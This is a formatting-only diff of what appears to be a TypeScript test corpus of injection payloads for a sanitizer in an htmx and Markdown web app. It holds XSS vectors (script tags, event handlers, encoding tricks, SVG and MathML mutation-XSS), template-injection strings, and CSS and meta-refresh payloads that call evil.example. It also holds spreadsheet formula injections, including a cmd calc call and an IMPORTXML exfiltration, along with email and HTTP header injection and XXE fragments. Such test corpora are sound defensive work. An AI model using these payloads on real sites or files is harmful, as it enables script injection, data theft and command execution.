@@ -16,7 +16,20 @@ const code = 'alert(1)'
 
 const scripts = [
   ...cross(
-    ['', ' ', '/', '\t', '\n', '\f', ' x', ' type=module', ' async', ' type=text/jscript', ' defer src=x:', ' nonce=a'],
+    [
+      '',
+      ' ',
+      '/',
+      '\t',
+      '\n',
+      '\f',
+      ' x',
+      ' type=module',
+      ' async',
+      ' type=text/jscript',
+      ' defer src=x:',
+      ' nonce=a',
+    ],
     [
       (gap: string) => `<script${gap}>${code}</script>`,
       (gap: string) => `<ScRiPt${gap}>${code}</sCrIpT >`,
@@ -58,11 +71,15 @@ const carriers: ((handler: string) => string)[] = [
 const handled = [
   ...cross(handlers, carriers, (handler, carrier) => carrier(handler)),
   ...cross(
-    words('a audio body button details dialog div form frameset iframe keygen marquee math object p select source style table textarea track video x-y'),
+    words(
+      'a audio body button details dialog div form frameset iframe keygen marquee math object p select source style table textarea track video x-y',
+    ),
     words('onload onfocus onclick ontoggle onerror'),
     (tag, handler) => `<${tag} src=x: open tabindex=0 autofocus ${handler}=${code}>x</${tag}>`,
   ),
-  ...words('/ // \t \n \r \f \v " \' ` , ; \u00a0').map((gap) => `<img${gap}src=x${gap}onerror${gap}=${gap}${code}>`),
+  ...words('/ // \t \n \r \f \v " \' ` , ; \u00a0').map(
+    (gap) => `<img${gap}src=x${gap}onerror${gap}=${gap}${code}>`,
+  ),
   ...["'", '"', '`', "' ", '" ', '&quot;', '&#34;', '&#x27;', '\\"', "\\'", '%22', '\u201d', '\uff02'].map(
     (quote) => `x${quote} onmouseover=${quote}${code}${quote} y=${quote}`,
   ),
@@ -91,7 +108,11 @@ const addresses: Shape[] = [
 ]
 const schemes = [
   ...cross(
-    cross(words('javascript data vbscript livescript mocha blob filesystem view-source file'), spelled, (name, spell) => spell(name)),
+    cross(
+      words('javascript data vbscript livescript mocha blob filesystem view-source file'),
+      spelled,
+      (name, spell) => spell(name),
+    ),
     addresses,
     (address, place) => place(address),
   ),
@@ -101,29 +122,44 @@ const schemes = [
   ]),
 ]
 
-const lessThan = words('&lt; &LT; &lt &#60; &#60 &#x3c; &#x3C &#0060; &#x000003c; \\u003c \\x3c %3C %253C \u02c2 \u2039 \uff1c \ufe64 \u3008 +ADw- \\3c')
+const lessThan = words(
+  '&lt; &LT; &lt &#60; &#60 &#x3c; &#x3C &#0060; &#x000003c; \\u003c \\x3c %3C %253C \u02c2 \u2039 \uff1c \ufe64 \u3008 +ADw- \\3c',
+)
 const entities = [
-  ...lessThan.flatMap((sign) => [`${sign}script>${code}${sign}/script>`, `${sign}img src=x onerror=${code}>`]),
+  ...lessThan.flatMap((sign) => [
+    `${sign}script>${code}${sign}/script>`,
+    `${sign}img src=x onerror=${code}>`,
+  ]),
   ...words('&amp;lt; &amp;amp;lt; &#38;lt; &amp;#60;').map((sign) => `${sign}img src=x onerror=${code}>`),
-  ...words('&quot; &#34; &apos; &#39; &grave; &#96; &Tab; &NewLine; &lpar; &colon; &sol; &num; &nbsp; &zwj; &rlm; &NotEqualTilde; &ngE; &#0; &#x110000; &#xD800; &#128; &#x80; &bogus; &').map(
-    (sign) => `x${sign} onclick=${code} ${sign}y`,
-  ),
+  ...words(
+    '&quot; &#34; &apos; &#39; &grave; &#96; &Tab; &NewLine; &lpar; &colon; &sol; &num; &nbsp; &zwj; &rlm; &NotEqualTilde; &ngE; &#0; &#x110000; &#xD800; &#128; &#x80; &bogus; &',
+  ).map((sign) => `x${sign} onclick=${code} ${sign}y`),
   // What would be `<` if an overlong byte or a half of a pair were read leniently.
-  ...['\u00c0\u00bc', '\u00e0\u0080\u00bc', '\ud800<', '\udc00<', '\ud83d', '\u0000<', '<\u0000', '\ufffe<', '\uffff<'].map(
-    (sign) => `${sign}script>${code}`,
-  ),
+  ...[
+    '\u00c0\u00bc',
+    '\u00e0\u0080\u00bc',
+    '\ud800<',
+    '\udc00<',
+    '\ud83d',
+    '\u0000<',
+    '<\u0000',
+    '\ufffe<',
+    '\uffff<',
+  ].map((sign) => `${sign}script>${code}`),
 ]
 
 const svg = [
-  ...words('animate set animateMotion animateTransform handler listener image use a foreignObject desc title style script filter feImage discard').flatMap(
-    (tag) => [
-      `<svg><${tag} href="javascript:${code}" xlink:href="data:text/html,x" onbegin=${code} onload=${code} attributeName=href values=javascript:${code}>x</${tag}></svg>`,
-      `<svg><a><${tag} attributeName="href" to="javascript:${code}"/><text y=9>x</text></a></svg>`,
-      `<svg xmlns="http://www.w3.org/2000/svg"><${tag}><img src=x onerror=${code}></${tag}></svg>`,
-    ],
-  ),
+  ...words(
+    'animate set animateMotion animateTransform handler listener image use a foreignObject desc title style script filter feImage discard',
+  ).flatMap((tag) => [
+    `<svg><${tag} href="javascript:${code}" xlink:href="data:text/html,x" onbegin=${code} onload=${code} attributeName=href values=javascript:${code}>x</${tag}></svg>`,
+    `<svg><a><${tag} attributeName="href" to="javascript:${code}"/><text y=9>x</text></a></svg>`,
+    `<svg xmlns="http://www.w3.org/2000/svg"><${tag}><img src=x onerror=${code}></${tag}></svg>`,
+  ]),
 ]
-const maths = words('mi mo mn ms mtext mglyph malignmark annotation-xml maction semantics menclose mstyle').flatMap((tag) => [
+const maths = words(
+  'mi mo mn ms mtext mglyph malignmark annotation-xml maction semantics menclose mstyle',
+).flatMap((tag) => [
   `<math><${tag} href="javascript:${code}" xlink:href="javascript:${code}" actiontype=statusline#x>x</${tag}></math>`,
   `<math><${tag} encoding="text/html"><img src=x onerror=${code}></${tag}></math>`,
   `<math><${tag}><style><!--</style><img title="--><img src=x onerror=${code}>">`,
@@ -132,8 +168,11 @@ const maths = words('mi mo mn ms mtext mglyph malignmark annotation-xml maction 
 /** Where one parser ends an element and another one does not: what was text the first time is a tag the second. */
 const mutations = cross(
   words('svg math'),
-  words('style title noscript textarea xmp noembed noframes iframe plaintext select table form p br desc mtext mglyph template'),
-  (root, inner) => `<${root}><${inner}><a id="</${inner}><img src=x onerror=${code}>"></a></${inner}></${root}>`,
+  words(
+    'style title noscript textarea xmp noembed noframes iframe plaintext select table form p br desc mtext mglyph template',
+  ),
+  (root, inner) =>
+    `<${root}><${inner}><a id="</${inner}><img src=x onerror=${code}>"></a></${inner}></${root}>`,
 ).concat(
   cross(
     words('style title noscript textarea xmp noembed noframes iframe plaintext script comment listing'),
@@ -143,15 +182,39 @@ const mutations = cross(
   words('form table select option frameset dd li ruby').map(
     (tag) => `<${tag}><math><mtext></${tag}><${tag}><mglyph><style></math><img src onerror=${code}>`,
   ),
-  ['<!--', '<!-->', '<!--->', '<!--!>', '<!x', '<?x', '</ ', '</!', '<![CDATA[', '<!DOCTYPE [', '<!--#exec cmd=x'].map(
-    (open) => `${open}><img src=x onerror=${code}>-->]]>`,
-  ),
+  [
+    '<!--',
+    '<!-->',
+    '<!--->',
+    '<!--!>',
+    '<!x',
+    '<?x',
+    '</ ',
+    '</!',
+    '<![CDATA[',
+    '<!DOCTYPE [',
+    '<!--#exec cmd=x',
+  ].map((open) => `${open}><img src=x onerror=${code}>-->]]>`),
 )
 
 const templates = [
-  ...['{{', '${', '#{', '<%=', '{%', '[[', '{{{', '@{', '*{', '~{', '{{=', '<?=', '@(', '{!', '{{constructor.constructor("'].flatMap(
-    (open) => [`${open}7*7}}`, `${open}${code}")()}}`, `\`${open}${code}}\``],
-  ),
+  ...[
+    '{{',
+    '${',
+    '#{',
+    '<%=',
+    '{%',
+    '[[',
+    '{{{',
+    '@{',
+    '*{',
+    '~{',
+    '{{=',
+    '<?=',
+    '@(',
+    '{!',
+    '{{constructor.constructor("',
+  ].flatMap((open) => [`${open}7*7}}`, `${open}${code}")()}}`, `\`${open}${code}}\``]),
   ...words('open closed x').flatMap((mode) => [
     `<template shadowrootmode=${mode}><script>${code}</script></template>`,
     `<div><template shadowrootmode=${mode} shadowrootserializable><img src=x onerror=${code}></template></div>`,
@@ -173,7 +236,10 @@ const sources = [
 export const hxNames = [
   ...new Set(
     sources.flatMap((file) =>
-      Array.from(readFileSync(file, 'utf8').matchAll(/["'`[\s,](hx-[a-z][a-z-]*[a-z](?::[a-z]+)?)/g), ([, name]) => name!),
+      Array.from(
+        readFileSync(file, 'utf8').matchAll(/["'`[\s,](hx-[a-z][a-z-]*[a-z](?::[a-z]+)?)/g),
+        ([, name]) => name!,
+      ),
     ),
   ),
 ].sort()
@@ -203,7 +269,8 @@ const htmx = [
   `<div sse-connect="//evil.example" sse-swap="message" ws-connect="//evil.example">x</div>`,
 ]
 
-const clobbered = words(`body forms cookie location document getElementById querySelector addEventListener htmx config
+const clobbered =
+  words(`body forms cookie location document getElementById querySelector addEventListener htmx config
   __proto__ constructor attributes children parentNode firstChild innerHTML action method submit elements length name
   defaultView nodeName ownerDocument main live quote write write-body arrivals news found mentions poll password email
   request_id session csrf comment-1 replies-1 folded known suggests brings`)
@@ -214,15 +281,20 @@ const clobbering = clobbered.flatMap((name) => [
 ])
 
 const css = [
-  ...['url(//evil.example/x)', 'expression(alert(1))', `url("javascript:${code}")`, 'image-set("//evil.example/x" 1x)', 'var(--x)', 'attr(value)'].flatMap(
-    (value) => [
-      `<p style="background:${value}">x</p>`,
-      `<style>*{background:${value}}</style>`,
-      `red;background:${value}`,
-      `"style="background:${value}`,
-      `</style><style>input[value^=a]{background:${value}}`,
-    ],
-  ),
+  ...[
+    'url(//evil.example/x)',
+    'expression(alert(1))',
+    `url("javascript:${code}")`,
+    'image-set("//evil.example/x" 1x)',
+    'var(--x)',
+    'attr(value)',
+  ].flatMap((value) => [
+    `<p style="background:${value}">x</p>`,
+    `<style>*{background:${value}}</style>`,
+    `red;background:${value}`,
+    `"style="background:${value}`,
+    `</style><style>input[value^=a]{background:${value}}`,
+  ]),
   ...words('behavior -moz-binding -o-link list-style cursor content filter mask src').map(
     (name) => `<div style="${name}:url(//evil.example/x);position:fixed;inset:0">x</div>`,
   ),
@@ -232,7 +304,9 @@ const css = [
 ]
 
 const leading = [
-  ...words('0;url=javascript:alert(1) 0;//evil.example 0;url=data:text/html,x 1;url="/en/sign-out" 0,/x').flatMap((content) => [
+  ...words(
+    '0;url=javascript:alert(1) 0;//evil.example 0;url=data:text/html,x 1;url="/en/sign-out" 0,/x',
+  ).flatMap((content) => [
     `<meta http-equiv="refresh" content="${content}">`,
     `<meta content='${content}' http-equiv=REFRESH>`,
   ]),
@@ -247,13 +321,24 @@ const leading = [
     `<link rel="preload prefetch dns-prefetch modulepreload icon manifest" href="${href}">`,
     `[x](${href})`,
   ]),
-  ...words('iframe frame object embed applet img image video audio source track input script portal').flatMap((tag) => [
-    `<${tag} src="//evil.example/x" data="//evil.example/x" poster="//evil.example/x" srcset="//evil.example/x 1x" code=x>`,
-    `<${tag} srcdoc="&lt;script&gt;${code}&lt;/script&gt;" src="javascript:${code}" type=image onerror=${code}></${tag}>`,
-  ]),
+  ...words('iframe frame object embed applet img image video audio source track input script portal').flatMap(
+    (tag) => [
+      `<${tag} src="//evil.example/x" data="//evil.example/x" poster="//evil.example/x" srcset="//evil.example/x 1x" code=x>`,
+      `<${tag} srcdoc="&lt;script&gt;${code}&lt;/script&gt;" src="javascript:${code}" type=image onerror=${code}></${tag}>`,
+    ],
+  ),
 ]
 
-const insides = [`"onmouseover=${code} x="`, `javascript:${code}`, `<img src=x onerror=${code}>`, '//evil.example', `&quot;onclick=${code}`, '](x "y', '`', '\\']
+const insides = [
+  `"onmouseover=${code} x="`,
+  `javascript:${code}`,
+  `<img src=x onerror=${code}>`,
+  '//evil.example',
+  `&quot;onclick=${code}`,
+  '](x "y',
+  '`',
+  '\\',
+]
 const markdown = cross(
   insides,
   [
@@ -276,38 +361,97 @@ const markdown = cross(
   (inside, place) => place(inside),
 ).concat(
   // The standard's own examples that hold raw HTML or references.
-  examples.map(({ markdown: source }) => source).filter((source) => /<\w|&#|\]\(|\]:/.test(source) && source.length < 120),
+  examples
+    .map(({ markdown: source }) => source)
+    .filter((source) => /<\w|&#|\]\(|\]:/.test(source) && source.length < 120),
 )
 
 const signs = [
   ...'\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2028\u2029\u0085\u000b\u000c\u0001\u001b\u007f\u009f\ufff9\ufffc\u{e0001}\u{e0041}\u3164',
-].flatMap((sign) => [`a${sign}<b onclick=${code}>${sign}`, `${sign}${sign}moc.elpmaxe${sign}`, `java${sign}script:${code}`]).concat(
-  ['\u0000', '\ud800', '\udfff', '\ud83d\ud83d', '\ufffd', '\ufffe', '\uffff', '\ufdd0'].flatMap((sign) => [
-    `a${sign}b<script${sign}>${code}</script${sign}>`,
-    `<${sign}script>${code}`,
-  ]),
-  ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '%2BADw-script%2BAD4-', '\u001b$B<script>', '~{<script>~}', `\u0635\u0644\u0649 \u0627\u0644\u0644\u0647<b>`, `${'\u0300'.repeat(40)}<i>`],
-)
+]
+  .flatMap((sign) => [
+    `a${sign}<b onclick=${code}>${sign}`,
+    `${sign}${sign}moc.elpmaxe${sign}`,
+    `java${sign}script:${code}`,
+  ])
+  .concat(
+    ['\u0000', '\ud800', '\udfff', '\ud83d\ud83d', '\ufffd', '\ufffe', '\uffff', '\ufdd0'].flatMap((sign) => [
+      `a${sign}b<script${sign}>${code}</script${sign}>`,
+      `<${sign}script>${code}`,
+    ]),
+    [
+      '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+      '%2BADw-script%2BAD4-',
+      '\u001b$B<script>',
+      '~{<script>~}',
+      `\u0635\u0644\u0649 \u0627\u0644\u0644\u0647<b>`,
+      `${'\u0300'.repeat(40)}<i>`,
+    ],
+  )
 
 /** What a spreadsheet takes for a formula when a cell begins with it. */
 const formulae = cross(
-  ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', "'=", '＝', '＋', '－', '＠', '%0A=', ';=', ',=', '|='],
-  [`cmd|' /C calc'!A0`, 'HYPERLINK("//evil.example","x")', 'IMPORTXML(CONCAT("//evil.example/",A1),"//a")', '1+1', 'WEBSERVICE("//evil.example")'],
+  [
+    '=',
+    '+',
+    '-',
+    '@',
+    '\t=',
+    '\r=',
+    '\n=',
+    ' =',
+    '"=',
+    "'=",
+    '＝',
+    '＋',
+    '－',
+    '＠',
+    '%0A=',
+    ';=',
+    ',=',
+    '|=',
+  ],
+  [
+    `cmd|' /C calc'!A0`,
+    'HYPERLINK("//evil.example","x")',
+    'IMPORTXML(CONCAT("//evil.example/",A1),"//a")',
+    '1+1',
+    'WEBSERVICE("//evil.example")',
+  ],
   (start, formula) => `${start}${formula}`,
 )
 
 const injectedHeaders = cross(
-  ['\r\n', '\n', '\r', '%0d%0a', '\\r\\n', '\u2028', '\u0085', '\u000b', '\r\n\r\n', '\u560a\u560d', '=0D=0A', '=?utf-8?Q?=0D=0A?='],
-  words('Bcc:eve@evil.example Subject:x Content-Type:text/html Set-Cookie:session=x Location://evil.example HX-Redirect://evil.example HX-Trigger:{"x":1} MIME-Version:1'),
+  [
+    '\r\n',
+    '\n',
+    '\r',
+    '%0d%0a',
+    '\\r\\n',
+    '\u2028',
+    '\u0085',
+    '\u000b',
+    '\r\n\r\n',
+    '\u560a\u560d',
+    '=0D=0A',
+    '=?utf-8?Q?=0D=0A?=',
+  ],
+  words(
+    'Bcc:eve@evil.example Subject:x Content-Type:text/html Set-Cookie:session=x Location://evil.example HX-Redirect://evil.example HX-Trigger:{"x":1} MIME-Version:1',
+  ),
   (end, header) => `x${end}${header.replace(':', ': ')}`,
 )
 
 const data = [
-  ...words('</script> </SCRIPT > <!--<script> <\\/script> \\u003c/script> \u2028 ");alert(1)// \\"};alert(1)// __proto__ */alert(1)/*').flatMap((closing) => [
+  ...words(
+    '</script> </SCRIPT > <!--<script> <\\/script> \\u003c/script> \u2028 ");alert(1)// \\"};alert(1)// __proto__ */alert(1)/*',
+  ).flatMap((closing) => [
     `{"@context":"https://schema.org","name":"${closing}<img src=x onerror=${code}>"}`,
     `"}]}${closing}<script type="application/ld+json">`,
   ]),
-  ...words(']]> <![CDATA[ &xxe; %xxe; <!ENTITY --> <?xml ?> &lt;/content> </title></entry><entry> <x:y> xmlns="evil" &#x0; &#xFFFE;').flatMap((piece) => [
+  ...words(
+    ']]> <![CDATA[ &xxe; %xxe; <!ENTITY --> <?xml ?> &lt;/content> </title></entry><entry> <x:y> xmlns="evil" &#x0; &#xFFFE;',
+  ).flatMap((piece) => [
     `${piece}<script xmlns="http://www.w3.org/1999/xhtml">${code}</script>`,
     `x${piece}y`,
   ]),
